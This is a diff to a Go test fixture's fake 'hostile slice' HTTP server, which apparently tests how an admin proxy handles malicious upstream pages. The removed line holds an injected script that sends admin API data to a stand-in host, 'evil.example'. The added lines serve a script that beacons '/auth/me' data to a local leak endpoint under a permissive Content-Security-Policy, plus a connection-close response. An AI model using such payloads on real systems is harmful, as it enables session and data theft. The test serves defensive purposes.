@@ -303,8 +303,19 @@ func (fs *fakeSlice) serve(w http.ResponseWriter, r *http.Request) {
 	case path == "/api/page": // what a hostile slice would answer an admin's navigation with
 		w.Header().Set("Content-Type", "text/html")
 		w.Header().Set("Content-Security-Policy", "script-src * 'unsafe-inline'")
+		w.Header().Add("Content-Security-Policy", "img-src *")
 		w.Header().Set("X-Content-Type-Options", "sniff-away")
-		w.Write([]byte(`<script>fetch("/admin/api/slices").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t))</script>`))
+		w.Header().Add("X-Content-Type-Options", "sniff-more")
+		w.Write([]byte(`<title>slice page</title><script>document.title = "ran";
+fetch("/auth/me").then(r => r.text()).then(t => navigator.sendBeacon("/api/leak", t))</script><p id="p">hello</p>`))
+	case path == "/api/until-close": // an answer with no length, ended by closing
+		conn, bw, err := w.(http.Hijacker).Hijack()
+		if err != nil {
+			return
+		}
+		bw.WriteString("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nall of it, then the end")
+		bw.Flush()
+		conn.Close()
 	case path == "/api/bytes": // ?n= bytes of /api/big's pattern
 		n, _ := strconv.Atoi(r.URL.Query().Get("n"))
 		w.Header().Set("Content-Type", "application/octet-stream")
